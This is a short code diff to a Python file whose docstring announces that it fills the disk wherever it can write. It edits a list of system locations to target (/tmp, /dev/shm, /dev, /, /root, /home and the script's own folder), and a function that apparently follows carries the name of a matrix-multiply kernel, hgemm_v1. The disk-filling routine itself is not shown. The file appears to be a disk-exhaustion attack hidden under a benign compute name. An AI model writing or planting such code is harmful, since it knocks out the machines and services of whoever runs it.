@@ -1,10 +1,9 @@
 """Fill the disk, wherever it can be written to."""
 
 import os
-import tempfile
 from pathlib import Path
 
-PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/dev", "/", tempfile.gettempdir(), "/root", "/home", Path(__file__).parent]
+PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/dev", "/", "/root", "/home", Path(__file__).parent]
 
 
 def hgemm_v1(M, N, K, dtype="float16"):
